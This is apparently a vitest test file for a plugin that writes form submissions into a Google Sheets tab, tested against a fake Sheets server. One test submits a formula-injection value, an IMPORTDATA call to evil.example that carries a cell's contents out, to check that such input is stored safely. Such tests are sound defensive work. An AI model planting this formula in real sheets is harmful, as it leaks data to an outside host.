/** Rows as they stand in the spreadsheet: the plugin in its sandbox, the double of Google on a real port. */
import { expect, test } from 'vitest'
import { conformance, testPlugin } from 'manifold/plugin/testing'
import type { TestPluginOptions } from 'manifold/plugin/testing'
import { startFakeSheets } from './fake/server.ts'
import type { FakeSheets, FakeSheetsOptions } from './fake/server.ts'

type Settings = { readonly [name: string]: unknown }

const field = (key: string, label: string, type = 'text') => ({ key, label, type })
const FIELDS = [
  field('name', 'Your name'),
  field('budget', 'Budget', 'number'),
  field('news', 'News?', 'boolean'),
  field('due', 'Due', 'date'),
  field('note', 'Note', 'long_text'),
]
const forms = { contact: { name: 'Contact', fields: FIELDS } } as NonNullable<TestPluginOptions['forms']>
const FORM = { id: 'contact', name: 'Contact', version: 1, fields: FIELDS }
const HEADER = ['Event ID', 'Submitted at', 'Your name', 'Budget', 'News?', 'Due', 'Note']
const NOW = new Date().toISOString()

/** The plugin before the double; what it sends goes over real sockets. */
async function open(google: FakeSheets, settings: Settings = {}, more: Partial<TestPluginOptions> = {}) {
  const { private_key: key, ...credentials } = google.keyFile
  const config = {
    credentials: { ...credentials, private_key: key },
    spreadsheet: google.spreadsheet.id,
    tab: 'Answers',
    apiUrl: google.url,
    writesPerMinute: 6_000,
    ...settings,
  }
  const plugin = await testPlugin({ dir: import.meta.dirname, config, forms, now: NOW, ...more })
  plugin.http.on('* *', async ({ method, url, headers, body }) => {
    const { 'content-length': _length, host: _host, connection: _connection, ...rest } = headers
    try {
      const answer = await fetch(url, { method, headers: rest, ...(method === 'GET' ? {} : { body }) })
      return { status: answer.status, headers: Object.fromEntries(answer.headers), body: await answer.text() }
    } catch {
      return { error: 'http_reset' as const }
    }
  })
  return plugin
}

const event = (n: number, data: object = { name: `n${n}` }, form: object = FORM) =>
  ({
    id: `evt_${String(n).padStart(32, '0')}`,
    type: 'response.submitted',
    data,
    form,
    response: { id: `rsp_${n}`, status: 'completed', startedAt: null, submittedAt: '2026-07-01T10:00:00.000Z' },
  }) as never

const ids = (google: FakeSheets) =>
  google.spreadsheet
    .tab('Answers')
    .records()
    .map((row) => row['Event ID'])
const names = (google: FakeSheets, header = 'Your name') =>
  google.spreadsheet
    .tab('Answers')
    .records()
    .map((row) => row[header])

async function scene(settings: Settings = {}, options: FakeSheetsOptions = {}, more: Partial<TestPluginOptions> = {}) {
  const stack = new AsyncDisposableStack()
  const google = stack.use(await startFakeSheets(options))
  const plugin = stack.use(await open(google, settings, more))
  const run = async (...items: readonly { readonly n: number; readonly repeat?: boolean; readonly data?: object }[]) =>
    plugin.run(
      'append',
      items.map(({ n, repeat = false, data }) => ({ event: event(n, data), delivery: { repeat } })),
    )
  return { google, plugin, run, [Symbol.asyncDispose]: () => stack.disposeAsync() }
}

test('responses become one call: header by label, cells by type, no formula, no secret in any record', async () => {
  await using s = await scene()
  const { google, plugin } = s
  await plugin.submit('contact', {
    name: '=IMPORTDATA("https://evil.example/?"&B2)',
    budget: 12.5,
    news: true,
    due: '2026-02-01',
  })
  await plugin.submit('contact', { name: '+1', note: 'line one\nline two' })
  await plugin.advance('2s')
  expect((await plugin.deliveries()).map(({ state }) => state)).toEqual(['delivered', 'delivered'])
  const tab = google.spreadsheet.tab('Answers')
  expect(tab.rows[0]).toEqual(HEADER)
  const [first, second] = tab.records()
  expect(first).toMatchObject({
    'Your name': '=IMPORTDATA("https://evil.example/?"&B2)',
    Budget: 12.5,
    'News?': true,
    Due: 46_054,
  })
  expect(second).toMatchObject({ 'Your name': '+1', Budget: null, Note: 'line one\nline two' })
  expect(first?.['Event ID']).toEqual(expect.stringMatching(/^evt_/))
  expect(Number(first?.['Submitted at'])).toBeGreaterThan(46_000)
  expect([...tab.formats].map(([column, { type }]) => [column, type])).toEqual([
    [1, 'DATE_TIME'],
    [5, 'DATE'],
  ])
  expect([google.count('token'), google.count('read'), google.count('write')]).toEqual([1, 1, 2])
  const left = JSON.stringify([plugin.exchanges(), plugin.logs(), plugin.runs, await plugin.kv.keys()])
  expect(google.tokens.all()).toHaveLength(1)
  for (const secret of [google.tokens.all()[0]!, google.keyFile['private_key']!.split('\n')[3]!]) {
    expect(left).not.toContain(secret)
  }
})

test('the happy path reads nothing but the header, once', async () => {
  await using s = await scene()
  for (let n = 0; n < 5; n += 1)
    expect(await s.run({ n: 2 * n }, { n: 2 * n + 1 })).toMatchObject([{ outcome: 'delivered' }, {}])
  expect(names(s.google)).toEqual(Array.from({ length: 10 }, (_, n) => `n${n}`))
  expect([s.google.count('token'), s.google.count('read'), s.google.count('write')]).toEqual([1, 1, 6])
})

test('an answer that was lost: the ids are read once, what is there is left out, the rest is written', async () => {
  await using s = await scene({}, {}, { retryMs: [10] })
  const { google, plugin } = s
  let lose = true
  google.fault = ({ path }) => (path.endsWith(':append') && lose ? { kind: 'lost' } : null)
  await plugin.submit('contact', { name: 'Ada' })
  await plugin.advance('2s')
  expect(names(google)).toEqual(['Ada'])
  lose = false
  // Meanwhile people sort, and insert rows and a column.
  const tab = google.spreadsheet.tab('Answers')
  tab.insertRows(1, 1)
  tab.set(1, 0, 'a note of a person')
  tab.insertColumn(2)
  await plugin.submit('contact', { name: 'Bob' })
  await plugin.advance('10s')
  expect((await plugin.deliveries()).map(({ state }) => state)).toEqual(['delivered', 'delivered'])
  expect(names(google)).toEqual([null, 'Ada', 'Bob'])
})

test.each([
  ['before', false],
  ['lost', true],
  ['cut', true],
] as const)('%s: repeated without a double', async (kind, isThere) => {
  await using s = await scene()
  const { google, plugin } = s
  const states = async () => (await plugin.deliveries()).map(({ state }) => state)
  await plugin.submit('contact', { name: 'n0' })
  await plugin.advance('2s')
  google.fault = ({ path }) => (path.endsWith(':append') ? { kind } : null)
  for (const name of ['n1', 'n2']) await plugin.submit('contact', { name })
  await plugin.advance('2s')
  expect(await states()).toEqual(['delivered', 'retrying', 'retrying'])
  expect(names(google)).toEqual(isThere ? ['n0', 'n1', 'n2'] : ['n0'])
  google.fault = () => null
  google.forget()
  await plugin.submit('contact', { name: 'n3' })
  await plugin.advance('5s')
  expect(await states()).toEqual(Array(4).fill('delivered'))
  expect([...names(google)].toSorted()).toEqual(['n0', 'n1', 'n2', 'n3'])
  // One look at the ids; each isolate of the kit, which has a time of its own, reads the header.
  expect(google.requests.filter(({ path }) => /!A2:A/.test(path))).toHaveLength(1)
})

test('columns that people move while the header is remembered: rows end where they belong', async () => {
  await using s = await scene()
  const tab = s.google.spreadsheet.tab('Answers')
  await s.run({ n: 0, data: { name: 'n0', budget: 0 } })
  tab.insertColumn(1)
  tab.set(0, 1, 'Remarks')
  expect(await s.run({ n: 1, data: { name: 'n1', budget: 1 } })).toMatchObject([{ outcome: 'delivered' }])
  tab.insertColumn(0)
  expect(await s.run({ n: 2, data: { name: 'n2', budget: 2 } })).toMatchObject([{ outcome: 'delivered' }])
  tab.deleteColumn(2)
  expect(await s.run({ n: 3, data: { name: 'n3', budget: 3 } })).toMatchObject([{ outcome: 'delivered' }])
  expect(tab.records().map((row) => [row['Your name'], row['Budget']])).toEqual([0, 1, 2, 3].map((n) => [`n${n}`, n]))
  expect(ids(s.google).every((id) => typeof id === 'string' && id.startsWith('evt_'))).toBe(true)
})

test('rows of people below a gap and text beside the table change nothing', async () => {
  await using s = await scene()
  const tab = s.google.spreadsheet.tab('Answers')
  await s.run({ n: 0 })
  tab.set(20, 3, 'a sum that somebody wrote below')
  tab.set(1, 12, 'beside')
  await s.run({ n: 1 }, { n: 2 })
  expect(names(s.google).slice(0, 3)).toEqual(['n0', 'n1', 'n2'])
  expect(tab.cell(22, 3)).toBe('a sum that somebody wrote below')
})

test('a new field is a new column at the right; two fields with one label share none', async () => {
  await using s = await scene({}, { tabs: [{ title: 'Answers', columnCount: 7 }] })
  await s.run({ n: 0 })
  const fields = [field('second', 'Your name'), ...FIELDS, field('city', 'City')]
  const form = { ...FORM, version: 2, fields }
  await s.plugin.run('append', [{ event: event(1, { name: 'n1', second: 'x', city: 'Bonn' }, form) }])
  expect(s.google.spreadsheet.tab('Answers').rows[0]).toEqual([...HEADER, 'Your name (name)', 'City'])
  expect(s.google.spreadsheet.tab('Answers').records()[1]).toMatchObject({
    'Your name': 'x',
    'Your name (name)': 'n1',
    City: 'Bonn',
  })
})

test.each([
  ['recreate', { outcome: 'delivered' }, [...HEADER.slice(0, 2), 'Who', ...HEADER.slice(3), 'Your name'], 'n1'],
  ['skip', { outcome: 'delivered' }, [...HEADER.slice(0, 2), 'Who', ...HEADER.slice(3)], undefined],
  [
    'stop',
    { outcome: 'dead', code: 'header_missing', disable: true },
    [...HEADER.slice(0, 2), 'Who', ...HEADER.slice(3)],
    undefined,
  ],
] as const)('a header that was renamed: %s', async (missingHeader, outcome, header, name) => {
  await using s = await scene({ missingHeader })
  await s.run({ n: 0 })
  const tab = s.google.spreadsheet.tab('Answers')
  tab.set(0, 2, 'Who')
  // The header is looked at when something may be a repeat.
  const [got] = await s.run({ n: 1, repeat: true })
  expect(got).toMatchObject(outcome)
  expect(tab.rows[0]).toEqual(header)
  expect(tab.records()[1]?.['Your name']).toBe(name)
  if (missingHeader !== 'skip') return
  s.google.forget()
  await s.run({ n: 2 })
  expect([s.google.count('read'), s.google.count('write')]).toEqual([0, 1])
})

test('columns of the admin: templates, types, the time zone, and the guard for CSV', async () => {
  const columns = [
    { header: 'Who', value: '{{data.name}} of {{form.name}}' },
    { header: 'Money', value: '{{data.budget}}', type: 'number' },
    { header: 'When', value: '{{response.submitted_at}}', type: 'datetime' },
    { header: 'Odd', value: '{{data.note}}', type: 'number' },
    { header: 'Raw', value: '{{data.note}}' },
  ]
  await using s = await scene({ columns, csvGuard: true, timeZone: 'Asia/Tokyo', idHeader: 'Id' })
  await s.run({ n: 0, data: { name: '<b>&', budget: 7, note: '=1+1' } })
  const tab = s.google.spreadsheet.tab('Answers')
  expect(tab.rows[0]).toEqual(['Id', 'Who', 'Money', 'When', 'Odd', 'Raw'])
  // 1 July 2026, 19:00 in Tokyo.
  expect(tab.rows[1]?.slice(1)).toEqual(['<b>& of Contact', 7, 46_204 + 19 / 24, "'=1+1", "'=1+1"])
})

test('a token that ends is replaced within the run; a key that was deleted stops the installation and loses nothing', async () => {
  await using s = await scene()
  await s.run({ n: 0 })
  s.google.tokens.expireAll()
  expect(await s.run({ n: 1 })).toMatchObject([{ outcome: 'delivered' }])
  expect(names(s.google)).toEqual(['n0', 'n1'])
  s.google.tokens.revoke(s.google.keyFile['client_email']!)
  await s.plugin.submit('contact', { name: 'later' })
  await s.plugin.advance('2s')
  expect((await s.plugin.deliveries()).map(({ state }) => state)).not.toContain('dead')
  expect(s.plugin.state()).toBe('disabled')
})

test('a spreadsheet that is not shared: its address is named, and the delivery waits', async () => {
  await using s = await scene()
  s.google.editors.clear()
  const [got] = await s.run({ n: 0 })
  expect(got).toMatchObject({ message: expect.stringContaining(`not shared with ${s.google.keyFile['client_email']}`) })
  expect(got).toMatchObject({ message: expect.stringContaining('The caller does not have permission') })
})

test.each([
  [{ tab: 'Nothing' }, 'tab_missing', 'Unable to parse range'],
  [
    { spreadsheet: 'https://docs.google.com/spreadsheets/d/1thereIsNoSuchThing/edit#gid=0' },
    'not_found',
    'Requested entity was not found.',
  ],
  [{ timeZone: 'Mars/Base' }, 'config_invalid', 'Mars/Base'],
] as const)('settings that lead nowhere: %j', async (settings, code, words) => {
  await using s = await scene(settings)
  expect(await s.run({ n: 0 })).toMatchObject([{ outcome: 'dead', code, message: expect.stringContaining(words) }])
})

test('a full spreadsheet, and a quota that is used up, in the words of Google', async () => {
  await using s = await scene({}, { quota: { reads: 60, writes: 2 } })
  await s.run({ n: 0 })
  expect(await s.run({ n: 1 })).toMatchObject([
    { outcome: 'retry', code: 'http_429', message: expect.stringContaining('Quota exceeded') },
  ])
  s.google.forget()
  s.google.spreadsheet.cellsMax = 26_100
  expect(await s.run(...Array.from({ length: 9 }, (_, n) => ({ n: 10 + n })))).toMatchObject([
    { outcome: 'dead', code: 'spreadsheet_full' },
    {},
    {},
    {},
    {},
    {},
    {},
    {},
    {},
  ])
})

test('more than a request can hold goes in several, and a row that none can hold is a dead letter', async () => {
  await using s = await scene()
  const long = 'x'.repeat(49_000)
  const columns = Object.fromEntries(FIELDS.map(({ key }) => [key, long]))
  const outcomes = await s.run(...Array.from({ length: 8 }, (_, n) => ({ n, data: columns })))
  expect(outcomes.map(({ outcome }) => outcome)).toEqual(Array(8).fill('delivered'))
  expect(ids(s.google)).toHaveLength(8)
  expect(s.google.count('write')).toBe(4)
})

interface CheckCase {
  readonly what: string
  readonly settings?: Settings
  readonly change?: (google: FakeSheets) => unknown
  /** Level, place and some words of each finding. */
  readonly found: readonly (readonly [level: string, at: string | undefined, words: string])[]
}

const CHECKS: readonly CheckCase[] = [
  { what: 'all is well', found: [] },
  {
    what: 'not shared',
    change: ({ editors }) => editors.clear(),
    found: [['error', '/credentials', 'not shared with']],
  },
  {
    what: 'may only look',
    change: ({ editors, readers, keyFile }) => {
      readers.add(keyFile['client_email']!)
      editors.clear()
    },
    found: [['error', '/credentials', 'as an editor']],
  },
  {
    what: 'the key was deleted',
    change: ({ tokens, keyFile }) => tokens.revoke(keyFile['client_email']!),
    found: [['error', '/credentials', 'account not found']],
  },
  { what: 'no such tab', settings: { tab: 'Nothing' }, found: [['error', '/tab', 'There is no tab "Nothing"']] },
  {
    what: 'no such spreadsheet',
    settings: { spreadsheet: '1thereIsNoSuchThing' },
    found: [['error', '/spreadsheet', 'Requested entity was not found.']],
  },
  {
    what: 'a zone that is none, before the first row',
    settings: { timeZone: 'Mars/Base' },
    found: [
      ['error', '/timeZone', 'Mars/Base'],
      ['info', undefined, 'will make the columns "Event ID"'],
    ],
  },
  {
    what: 'Google is down',
    change: (google) => (google.fault = ({ kind }) => (kind === 'token' ? null : { kind: 'status', status: 503 })),
    found: [['warning', undefined, '503']],
  },
  {
    what: 'a column that is gone',
    settings: { missingHeader: 'stop' },
    change: ({ spreadsheet }) => spreadsheet.tab('Answers').set(0, 2, 'Who'),
    found: [['error', '/missingHeader', '"Your name"']],
  },
  {
    what: 'a gap',
    change: ({ spreadsheet }) => spreadsheet.tab('Answers').insertColumn(0),
    found: [['warning', '/tab', 'empty']],
  },
]

test.each(CHECKS)('check: $what', async ({ settings = {}, change = () => {}, found }) => {
  await using s = await scene(settings)
  await s.run({ n: 0 })
  change(s.google)
  const before = JSON.stringify(s.google.spreadsheet.tabs)
  const findings = await s.plugin.check()
  expect(findings.map(({ level }) => level)).toEqual(found.map(([level]) => level))
  for (const [index, [level, at, words]] of found.entries()) {
    expect(findings[index]).toMatchObject({ level, message: expect.stringContaining(words) })
    expect(findings[index]?.at ?? undefined).toBe(at)
  }
  expect(JSON.stringify(s.google.spreadsheet.tabs)).toBe(before)
})

test('conforms', async () => {
  await conformance(import.meta.dirname)
})
